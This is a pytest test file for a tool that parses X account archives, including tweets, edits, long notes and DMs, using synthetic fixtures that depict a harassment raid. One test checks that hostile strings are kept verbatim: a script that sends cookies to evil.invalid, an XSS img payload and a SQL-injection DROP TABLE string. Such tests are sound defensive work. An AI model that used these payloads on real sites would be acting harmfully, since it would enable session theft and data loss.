"""Ingest an X account archive: tweets, deleted tweets, long notes, DMs, account, blocks."""

from __future__ import annotations

import shutil
from datetime import UTC, datetime
from pathlib import Path

import orjson
import pytest

from rempart.errors import ParseError, SourceError
from rempart.models import Account, Media, Mention, Message, StatusChange, Version
from rempart.sources import ParseContext, detect, expand_paths, read_file
from rempart.sources.twitter_archive import TwitterArchiveSource, match_notes

FIXTURES = Path(__file__).parent / "fixtures"
ROOT = FIXTURES / "twitter_archive"
DATA = ROOT / "data"
OLD = FIXTURES / "twitter_archive_old" / "tweet.js"
CAPTURED = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
GENERATED = datetime(2026, 2, 25, 12, 0, tzinfo=UTC)  # manifest generationDate
SRC = TwitterArchiveSource()
OWNER_ID = "900000000000000001"
RAID = Mention("raid_leader_01", "800000000000000001")


def utc(*args: int) -> datetime:
    return datetime(*args, tzinfo=UTC)


def items_of(path: Path) -> list:
    out: list = []
    for _, result in read_file(path, captured_at=CAPTURED):
        assert not isinstance(result, ParseError), result
        out.extend(result)
    return out


def msgs(path: Path) -> dict[str, Message]:
    return {m.id: m for m in items_of(path) if isinstance(m, Message)}


@pytest.fixture(scope="module")
def archive() -> dict[str, list]:
    """Every file of the synthetic archive folder walked as a user would ingest it."""
    out: dict[str, list] = {}
    for path in expand_paths([ROOT]):
        try:
            source = detect(path)
        except SourceError:
            continue
        if source.name == "twitter-archive":
            out[path.name] = items_of(path)
    return out


# --------------------------------------------------------------------------- detection


MESSAGE_FILES = [
    "tweets.js",
    "tweets-part1.js",
    "deleted-tweets.js",
    "note-tweet.js",
    "direct-messages.js",
    "direct-messages-group.js",
    "account.js",
    "block.js",
    "mute.js",
]


@pytest.mark.parametrize("name", MESSAGE_FILES)
def test_detect_picks_the_archive_for_its_files(name: str) -> None:
    assert detect(DATA / name).name == "twitter-archive"


def test_detect_accepts_the_pre_2022_tweet_js() -> None:
    assert detect(OLD).name == "twitter-archive"


@pytest.mark.parametrize("name", ["manifest.js", "like.js", "follower.js", "README.txt"])
def test_files_without_messages_are_not_claimed(name: str) -> None:
    path = DATA / name
    assert SRC.sniff(path.read_bytes(), path) == 0


def test_other_formats_fixtures_are_not_claimed() -> None:
    archive_dirs = {ROOT, OLD.parent}
    others = [p for p in FIXTURES.rglob("*") if p.is_file() and not archive_dirs & set(p.parents)]
    assert others, "expected fixtures of other formats"
    for path in others:
        assert SRC.sniff(path.read_bytes()[:65536], path) == 0, path
        try:
            assert detect(path).name != "twitter-archive", path
        except SourceError:
            pass


# --------------------------------------------------------------------------- the whole folder


def test_whole_archive_folder_is_ingested_file_by_file(archive: dict[str, list]) -> None:
    walked = [p.name for p in expand_paths([ROOT])]
    assert "1892600000000000006-SynthShot.jpg" not in walked  # media skipped by suffix
    assert sorted(archive) == sorted(MESSAGE_FILES)
    all_items = [i for items in archive.values() for i in items]
    ids = sorted(m.id for m in all_items if isinstance(m, Message))
    assert ids == sorted(
        [
            "1892600000000000001",
            "1892600000000000002",
            "1892600000000000003",
            "1892600000000000004",
            "1892600000000000004",
            "1892600000000000005",
            "1892600000000000006",
            "1892600000000000007",
            "1892600000000000015",
            "1892600000000000020",
            "note:1892600000000000199",
            "1892700000000000001",
            "1892700000000000002",
            "1892700000000000003",
            "1892700000000000004",
            "1892700000000000010",
            "1892700000000000501",
            "1892700000000000502",
        ]
    )
    assert [a.id for a in all_items if isinstance(a, Account)] == [OWNER_ID]
    assert [s.id for s in all_items if isinstance(s, StatusChange)] == ["1892600000000000020"]
    assert archive["block.js"] == [] and archive["mute.js"] == []


def test_tweet_author_is_the_owner_from_account_js() -> None:
    msg = msgs(DATA / "tweets.js")["1892600000000000001"]
    assert (msg.platform, msg.author_id, msg.author_handle, msg.author_display_name) == (
        "x",
        OWNER_ID,
        "target_camille",
        "Camille (test)",
    )
    assert msg.author_created_at == utc(2015, 3, 1, 10)
    assert msg.author_followers is None  # archives carry no follower counts
    assert msg.url == "https://x.com/target_camille/status/1892600000000000001"
    assert msg.observed_at == GENERATED


def test_tweet_fields_with_quoted_numbers() -> None:
    msg = msgs(DATA / "tweets.js")["1892600000000000001"]
    assert msg.text == "@raid_leader_01 stop this & leave me alone #StopTheRaid"
    assert msg.created_at == utc(2026, 2, 20, 10)
    assert msg.mentions == (RAID,) and msg.hashtags == ("StopTheRaid",)
    assert (msg.reply_to_id, msg.reply_to_author_id) == ("1892500000000000001", RAID.id)
    assert msg.lang == "en" and msg.audience == "public" and msg.thread_id is None
    assert msg.versions == (Version("1892600000000000001", msg.text, msg.created_at),)


def test_media_from_extended_entities_with_string_bitrates() -> None:
    msg = msgs(DATA / "tweets.js")["1892600000000000006"]
    assert msg.media == (
        Media("photo", "https://pbs.twimg.com/media/SynthShot.jpg", "1892600000000000090"),
        Media(
            "video",
            "https://video.twimg.com/ext_tw_video/1892600000000000091/pu/vid/1280x720/hi.mp4",
            "1892600000000000091",
            None,
            "https://pbs.twimg.com/ext_tw_video_thumb/1892600000000000091/pu/img/t.jpg",
        ),
    )
    assert msg.urls == ()  # the media link is not a real URL


def test_quote_is_read_from_a_status_url() -> None:
    msg = msgs(DATA / "tweets.js")["1892600000000000003"]
    assert msg.quoted_id == "1892500000000000001"
    assert msg.urls == ("https://twitter.com/raid_leader_01/status/1892500000000000001",)


def test_retweet_is_kept_truncated_and_flagged() -> None:
    msg = msgs(DATA / "tweets.js")["1892600000000000002"]
    assert msg.text.startswith("RT @raid_leader_01: Everyone go tell @target_camille")
    assert msg.text.endswith("frie…")
    assert msg.repost_of_id is None and msg.extra == {"retweet": True}
    assert msg.mentions == (RAID, Mention("target_camille", OWNER_ID))


def test_edits_share_the_initial_id_with_one_version_each(archive: dict[str, list]) -> None:
    first = msgs(DATA / "tweets.js")["1892600000000000004"]
    second = msgs(DATA / "tweets-part1.js")["1892600000000000004"]
    assert first.versions == (
        Version("1892600000000000004", "First wording of my statement", utc(2026, 2, 20, 10, 3)),
    )
    assert second.versions == (
        Version(
            "1892600000000000014",
            "Second wording of my statement (edited)",
            utc(2026, 2, 20, 10, 5),
        ),
    )
    assert second.url == "https://x.com/target_camille/status/1892600000000000014"


def test_tweets_part_file_with_a_trailing_semicolon() -> None:
    assert DATA.joinpath("tweets-part1.js").read_bytes().rstrip().endswith(b"];")
    assert "1892600000000000015" in msgs(DATA / "tweets-part1.js")


def test_deleted_tweet_gives_the_message_and_a_deletion() -> None:
    msg, change = items_of(DATA / "deleted-tweets.js")
    assert isinstance(msg, Message) and msg.text == "@raid_leader_01 I know who you are"
    assert change == StatusChange(
        "x",
        "message",
        "1892600000000000020",
        "deleted",
        utc(2026, 2, 23, 9, 5),
        "listed in deleted-tweets.js",
    )


def test_account_js_yields_the_owner_account() -> None:
    [account] = items_of(DATA / "account.js")
    assert account == Account(
        "x",
        OWNER_ID,
        "target_camille",
        "Camille (test)",
        utc(2015, 3, 1, 10),
        url="https://x.com/target_camille",
        observed_at=GENERATED,
        handles=("target_camille",),
    )


# --------------------------------------------------------------------------- long notes


def test_long_note_text_goes_to_the_matching_tweet() -> None:
    msg = msgs(DATA / "tweets.js")["1892600000000000005"]
    note = orjson.loads(DATA.joinpath("note-tweet.js").read_bytes().split(b"= ", 1)[1])
    assert msg.text == note[0]["noteTweet"]["core"]["text"]
    assert msg.text.endswith("Details: https://example.invalid/report #StopTheRaid")
    assert msg.urls == (
        "https://twitter.com/i/web/status/1892600000000000005",
        "https://example.invalid/report",
    )
    assert msg.hashtags == ("StopTheRaid",)
    assert msg.extra == {"note_tweet_id": "1892600000000000105"}


def test_note_tweet_js_matched_notes_yield_nothing_unmatched_become_messages() -> None:
    results = [r for _, r in read_file(DATA / "note-tweet.js", captured_at=CAPTURED)]
    assert results[0] == []
    [msg] = results[1]
    assert msg.id == "note:1892600000000000199" and msg.extra == {"note_tweet": True}
    assert msg.text.startswith("A draft long post") and msg.author_handle == "target_camille"
    assert msg.mentions == (Mention("raid_leader_01"),)
    assert msg.created_at == utc(2026, 2, 22, 18) and msg.url is None


def test_parse_is_pure_the_note_travels_in_the_unit_context() -> None:
    unit = next(u for u in SRC.units(DATA / "tweets.js") if b"1892600000000000005" in u.raw)
    with_note = SRC.parse(unit.raw, ParseContext(CAPTURED, "t.js", 1, unit.context))
    without = SRC.parse(unit.raw, ParseContext(CAPTURED, "t.js", 1, None))
    assert with_note == SRC.parse(unit.raw, ParseContext(CAPTURED, "t.js", 1, unit.context))
    assert with_note[0].text != without[0].text and without[0].text.endswith("https://t.co/NoTe01")
    assert without[0].author_id is None and without[0].observed_at == CAPTURED


def test_note_matching_needs_close_time_and_a_shared_prefix() -> None:
    note = {
        "noteTweetId": "9",
        "createdAt": "2026-02-20T10:00:02.000Z",
        "core": {"text": "Hello &amp; welcome to a very long post " + "z" * 300},
    }
    tweet = {
        "id_str": "1",
        "created_at": "Fri Feb 20 10:00:00 +0000 2026",
        "full_text": "Hello &amp; welcome to a very long post zzz… https://t.co/x",
    }
    assert match_notes([note], [tweet]) == {"1": note}
    late = dict(tweet, created_at="Fri Feb 20 09:59:59 +0000 2026")  # 3 s apart
    assert match_notes([note], [late]) == {}
    other = dict(tweet, full_text="Something else entirely https://t.co/x")
    assert match_notes([note], [other]) == {}
    twin = dict(tweet, id_str="2", created_at="Fri Feb 20 10:00:01 +0000 2026")
    assert match_notes([note], [tweet, twin]) == {"2": note}  # closest in time, matched once


# --------------------------------------------------------------------------- direct messages


def test_direct_messages() -> None:
    dms = msgs(DATA / "direct-messages.js")
    first = dms["1892700000000000001"]
    assert (first.platform, first.author_id, first.recipient_id, first.audience) == (
        "x",
        "800000000000000001",
        OWNER_ID,
        "direct",
    )
    assert first.author_handle is None  # archives give sender ids only
    assert first.thread_id == f"800000000000000001-{OWNER_ID}"
    assert first.text == "we know where you live & work https://t.co/DmLiNk"
    assert first.urls == ("https://dox.example.invalid/camille-home",)
    assert first.created_at == utc(2026, 2, 20, 11) and first.observed_at == GENERATED
    assert first.versions == () and first.url is None
    second = dms["1892700000000000002"]
    assert [m.kind for m in second.media] == ["photo", "video"]
    assert second.hashtags == ("RaidNow",) and second.mentions == (Mention("sock_puppet_2"),)
    own = dms["1892700000000000003"]
    assert (own.author_handle, own.author_display_name) == ("target_camille", "Camille (test)")


def test_dm_edit_history_becomes_versions() -> None:
    msg = msgs(DATA / "direct-messages.js")["1892700000000000004"]
    assert msg.text == "you will regret this, final warning"
    assert msg.versions == (
        Version("2026-02-20T11:03:00Z", "you will regret this", utc(2026, 2, 20, 11, 3)),
        Version(
            "2026-02-20T11:04:30Z",
            "you will regret this, final warning",
            utc(2026, 2, 20, 11, 4, 30),
        ),
    )
    assert msg.extra == {"reactions": 1}


def test_group_dms_skip_membership_events() -> None:
    dms = msgs(DATA / "direct-messages-group.js")
    assert sorted(dms) == ["1892700000000000501", "1892700000000000502"]
    msg = dms["1892700000000000501"]
    assert msg.thread_id == "1892700000000000500" and msg.recipient_id is None
    assert msg.audience == "direct" and msg.extra == {"group": True}


def test_hostile_payloads_are_kept_verbatim() -> None:
    dm = msgs(DATA / "direct-messages.js")["1892700000000000010"]
    assert dm.text == "<script>fetch('//evil.invalid?c='+document.cookie)</script>\u202e\u0007"
    tweet = msgs(DATA / "tweets.js")["1892600000000000007"]
    assert (
        tweet.text == "<img src=x onerror=alert(1)> Robert'); DROP TABLE students;-- "
        "\u202eevil\u202c "
    )


# --------------------------------------------------------------------------- owner lookup


def test_owner_falls_back_to_manifest_user_info(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    for name in ("tweets.js", "manifest.js"):
        shutil.copy(DATA / name, data / name)
    msg = msgs(data / "tweets.js")["1892600000000000001"]
    assert (msg.author_id, msg.author_handle, msg.author_display_name) == (
        OWNER_ID,
        "target_camille",
        "Camille (test)",
    )
    assert msg.author_created_at is None


def test_owner_found_in_an_enclosing_data_folder(tmp_path: Path) -> None:
    nested = tmp_path / "data" / "extracted"
    nested.mkdir(parents=True)
    shutil.copy(DATA / "account.js", tmp_path / "data" / "account.js")
    shutil.copy(DATA / "direct-messages.js", nested / "direct-messages.js")
    own = msgs(nested / "direct-messages.js")["1892700000000000003"]
    assert own.author_handle == "target_camille"


def test_old_archive_without_owner_keeps_author_empty() -> None:
    tweets = msgs(OLD)
    msg = tweets["1100000000000000001"]
    assert msg.author_id is None and msg.author_handle is None
    assert msg.url == "https://x.com/i/web/status/1100000000000000001"
    assert msg.mentions == (Mention("old_troll", "700000000000000001"),)
    assert msg.versions == () and msg.observed_at == CAPTURED
    assert tweets["1100000000000000002"].text == "unwrapped old tweet"


# --------------------------------------------------------------------------- malformed input


def test_malformed_elements_are_rejected_and_the_rest_parses(tmp_path: Path) -> None:
    good = (
        '{"tweet": {"id_str": "11", "created_at": "Fri Feb 20 10:00:00 +0000 2026", '
        '"full_text": "ok"}}'
    )
    no_id = '{"tweet": {"created_at": "Fri Feb 20 10:00:00 +0000 2026", "full_text": "x"}}'
    path = tmp_path / "tweets.js"
    path.write_bytes(
        (
            "window.YTD.tweets.part0 = [\n"
            + good
            + ",\n"
            + no_id
            + ",\n"
            + good
            + ',\n{"tweet": {"id_str": "12", "full_text": "cut'
        ).encode()
    )
    results = [(u.line, r) for u, r in read_file(path, captured_at=CAPTURED)]
    assert [line for line, _ in results] == [2, 3, 4, 5]
    assert results[0][1][0].id == "11" and results[2][1][0].id == "11"
    err = results[1][1]
    assert isinstance(err, ParseError)
    assert str(err) == f"{path}:3: archive tweet without an id: missing field 'tweet.id_str'"
    assert isinstance(results[3][1], ParseError) and "malformed JSON" in str(results[3][1])


def test_bad_utf8_element_is_rejected(tmp_path: Path) -> None:
    path = tmp_path / "direct-messages.js"
    body = DATA.joinpath("direct-messages.js").read_bytes()
    path.write_bytes(body.replace(b"Leave me alone.", b"Leave me \xff alone."))
    results = [r for _, r in read_file(path, captured_at=CAPTURED)]
    assert isinstance(results[0], ParseError) and "invalid UTF-8" in str(results[0])
    assert [m.id for m in results[1]] == ["1892700000000000010"]


@pytest.mark.parametrize(
    "raw, reason",
    [
        (b'{"like": {"tweetId": "1"}}', "unknown archive record"),
        (b'{"dmConversation": {"messages": []}}', "'dmConversation.conversationId'"),
        (
            (
                b'{"dmConversation": {"conversationId": "1-2", "messages": [{"messageCreate": '
                b'{"text": "x", "createdAt": "2026-02-20T11:00:00.000Z"}}]}}'
            ),
            "'dmConversation.messages[0].messageCreate.id'",
        ),
        (b'{"noteTweet": {"core": {"text": "x"}}}', "'noteTweet.noteTweetId'"),
        (b'{"account": {"username": "x"}}', "'account.accountId'"),
        (
            b'{"tweet": {"id_str": "1", "full_text": "x", "created_at": "someday"}}',
            "'tweet.created_at'",
        ),
        (b'"just a string"', "expected an archive record object"),
    ],
)
def test_malformed_records_name_the_field(raw: bytes, reason: str) -> None:
    with pytest.raises(ParseError) as info:
        SRC.parse(raw, ParseContext(CAPTURED, "a.js", 7))
    assert reason in str(info.value) and "a.js:7" in str(info.value)
